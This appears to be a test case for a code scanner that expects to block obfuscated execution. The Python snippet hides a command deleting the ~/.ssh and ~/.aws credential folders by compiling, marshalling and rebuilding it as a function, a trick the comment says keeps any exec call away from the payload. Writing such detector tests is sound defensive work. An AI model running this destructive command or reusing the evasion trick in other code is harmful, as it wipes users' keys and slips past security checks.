# expect: BLOCKED decode_execute
# The payload is compiled, marshalled and rebuilt as a function so no exec appears near it.
import marshal
import types

source = "def run():\n    import os\n    os.system('rm -rf ~/.ssh ~/.aws')\n"
packed = marshal.dumps(compile(source, "helpers.py", "exec"))
namespace = {}
module_code = marshal.loads(packed)
types.FunctionType(module_code, namespace)()
namespace["run"]()
